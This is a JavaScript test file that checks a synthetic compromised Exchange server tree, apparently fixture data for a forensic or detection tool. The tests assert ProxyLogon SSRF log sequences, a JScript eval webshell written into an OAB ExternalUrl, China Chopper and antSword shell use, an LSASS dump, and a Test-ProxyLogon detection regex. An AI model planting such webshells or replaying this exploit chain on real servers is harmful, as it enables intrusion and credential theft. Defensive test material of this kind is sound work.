// The compromised tree holds every step of the ProxyLogon chain, consistently across its logs and files.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { grepTree } from '../search.js';
import { COMPROMISED } from './compromised.js';
import { csvRows, small } from './fixtures.js';

const s = small('compromised');
const { tree } = s;
const V15 = 'Program Files/Microsoft/Exchange Server/V15';
const ip = COMPROMISED.exploitIp;

test('HttpProxy Ecp shows the SSRF chain: recon, SID, 241 logon, SetObject and Reset', () => {
  const rows = csvRows(tree, '/HttpProxy/Ecp/').filter((r) => r.AnchorMailbox?.startsWith('ServerInfo~a]@'));
  const seq = rows.map((r) => [
    r.AnchorMailbox?.replace(/msExchEcpCanary=[^&]+/, 'C'),
    r.HttpStatus,
    r.UserAgent,
  ]);
  assert.deepEqual(seq, [
    ['ServerInfo~a]@EXCH01.corp.local:444/autodiscover/autodiscover.xml?#', '200', 'ExchangeServicesClient/0.0.0.0'],
    ['ServerInfo~a]@EXCH01.corp.local:444/mapi/emsmdb/?#', '200', 'python-requests/2.25.1'],
    ['ServerInfo~a]@EXCH01.corp.local:444/ecp/proxyLogon.ecp?#', '241', 'python-requests/2.25.1'],
    ['ServerInfo~a]@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/GetObject?C&schema=OABVirtualDirectory#', '200', 'python-requests/2.25.1'],
    ['ServerInfo~a]@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?C&schema=OABVirtualDirectory#', '200', 'python-requests/2.25.1'],
    ['ServerInfo~a]@EXCH01.corp.local:444/ecp/DDI/DDIService.svc/SetObject?C&schema=ResetOABVirtualDirectory#', '200', 'python-requests/2.25.1'],
  ]); // prettier-ignore
  for (const r of rows) {
    assert.equal(r.ClientIpAddress, ip);
    assert.equal(r.UrlStem, '/ecp/y.js');
    assert.equal(r.AuthenticatedUser, '');
    assert.equal(r.RoutingHint, 'X-BEResource-Cookie');
  }
  const localhost = csvRows(tree, '/HttpProxy/Owa/').filter(
    (r) => r.AnchorMailbox === 'ServerInfo~localhost/owa/auth/logon.aspx?',
  );
  assert.equal(localhost.length, 2);
});

test('ECP Server log carries the script, the reset cmdlets, under the same canary as the HttpProxy rows', () => {
  const anchor = csvRows(tree, '/HttpProxy/Ecp/').find((r) =>
    r.AnchorMailbox?.includes('schema=ResetOABVirtualDirectory'),
  );
  const canary = /msExchEcpCanary=([^&]+)/.exec(anchor?.AnchorMailbox ?? '')?.[1];
  assert.ok(canary);
  const ecp = csvRows(tree, '/ECP/Server/').filter((r) => r.EventData?.includes(canary));
  const cmds = ecp.map((r) => /'?S:CMD=(.*?)'?;S:REQID/.exec(r.EventData ?? '')?.[1] ?? '');
  // csvRows has undone the CSV quoting; the single quotes are Exchange's key-value wrapping.
  const script = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>`;
  assert.ok(
    cmds.some((c) => c.startsWith(`Set-OabVirtualDirectory.ExternalUrl=''${script}''.Identity=''`)),
    cmds.join('\n'),
  );
  const raw = grepTree(
    tree,
    /\/ECP\/Server\//,
    /S:CMD=Set-OabVirtualDirectory\.ExternalUrl=''http:\/\/f\/<script language=""JScript""/,
  );
  assert.equal(raw.length, 1, 'raw line keeps the doubled quotes of the CSV field');
  assert.ok(cmds.some((c) => c.startsWith('Set-OabVirtualDirectory.ExternalUrl=$null')));
  assert.ok(cmds.some((c) => c.startsWith('Remove-OABVirtualDirectory.Force=$true')));
  assert.ok(cmds.some((c) => c.startsWith("New-OABVirtualDirectory.WebSiteName=''Default Web Site''")));
  // Test-ProxyLogon's CVE-2021-27065 regex must hit the raw line.
  const re = /Set-.+VirtualDirectory.+?(?=Url).+<\w+.*>(.*?)<\/\w+>.+?(?=VirtualDirectory)/i;
  assert.equal(grepTree(tree, /\/ECP\/Server\//, re).length, 1);
});

test('IIS shows the front-end POSTs, the 444 back-end calls as the machine account, and shell use', () => {
  const fe = grepTree(tree, /W3SVC1/, new RegExp(` POST /ecp/y\\.js .* ${ip.replace(/\./g, '\\.')} `));
  assert.equal(fe.length, 6);
  assert.equal(fe.filter((x) => / 241 0 0 /.test(x.line)).length, 1);
  const be = grepTree(tree, /W3SVC2/, / POST \/ecp\/DDI\/DDIService\.svc\/SetObject msExchEcpCanary=\S+&schema=ResetOABVirtualDirectory 444 CORP\\EXCH01\$ .* 200 0 0 /); // prettier-ignore
  assert.equal(be.length, 1);
  const posts = grepTree(tree, /W3SVC1/, / POST \/owa\/auth\/RedirSuiteServerProxy\.aspx &CorrelationID=<empty>;&cafeReqId=[0-9a-f-]+; 443 - 139\.162\.202\.236 .* 200 0 0 /); // prettier-ignore
  assert.ok(posts.length >= 4);
  assert.equal(grepTree(tree, /W3SVC1/, /RedirSuiteServerProxy\.aspx klk123456=.*whoami/).length, 1);
  assert.equal(
    grepTree(tree, /W3SVC1/, / POST \/aspnet_client\/discover\.aspx - 443 - 203\.0\.113\.77 antSword\/v2\.1 /)
      .length,
    3,
  );
});

test('files on disk: OAB-dump webshell, Chopper, LSASS dump, staged zip, OAB generator line', () => {
  const shell = tree.text(`${V15}/${COMPROMISED.shellPath}`) ?? '';
  assert.match(
    shell,
    /^ExternalUrl +: http:\/\/f\/<script language="JScript" runat="server">function Page_Load\(\)\{eval\(Request\["klk123456"\],"unsafe"\);\}<\/script>\r$/m,
  );
  assert.match(tree.text('inetpub/wwwroot/aspnet_client/discover.aspx') ?? '', /eval\(Request\.Item\[/);
  assert.equal(tree.files.get('Windows/Temp/lsass.dmp')?.data.toString('latin1', 0, 4), 'MDMP');
  assert.equal(tree.files.get('ProgramData/it.zip')?.data.readUInt32LE(0), 0x04034b50);
  const oab = grepTree(
    tree,
    /OABGeneratorLog/,
    /Download failed and temporary file '(.*?)' needs to be removed/,
  );
  assert.ok(oab.some((x) => x.line.includes("'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\log.aspx'")));
  assert.equal(
    tree.files.get(`${V15}/${COMPROMISED.shellPath}`)?.mtime,
    Date.parse('2021-03-03T06:49:59.858Z'),
  );
});

test('the build timeline: CU19 before the patch, Mar21SU after, with a mid-file IIS header change', () => {
  const versions = grepTree(tree, /\/HttpProxy\//, /^#Version: /).map(
    (x) => x.path.replace(/.*HttpProxy_/, '') + x.line,
  );
  assert.ok(versions.some((v) => v.startsWith('2021030820-1.LOG#Version: 15.01.2176.002')));
  assert.ok(versions.some((v) => v.startsWith('2021030820-2.LOG#Version: 15.01.2176.009')));
  assert.ok(versions.every((v) => (v.endsWith('.009') ? v >= '2021030820-2' : v < '2021030820-2')));
  const fields = grepTree(tree, /W3SVC1\/u_ex210308/, /^#Fields:/);
  assert.equal(fields.length, 2);
  assert.ok(fields[1]?.line.endsWith(' X-Forwarded-For'));
  const mitigated = tree.text('inetpub/wwwroot/web.config') ?? '';
  assert.match(mitigated, /X-BEResource Abort - inbound/);
});

test('attacker addresses never appear as benign clients', () => {
  const attackers = new Set(s.timeline.map((x) => x.ip).filter((x) => x && !x.startsWith('10.')));
  const benign = csvRows(tree, '/HttpProxy/').filter((r) => r.IsAuthenticated === 'true');
  for (const r of benign) assert.ok(!attackers.has(r.ClientIpAddress ?? ''), r.ClientIpAddress);
});
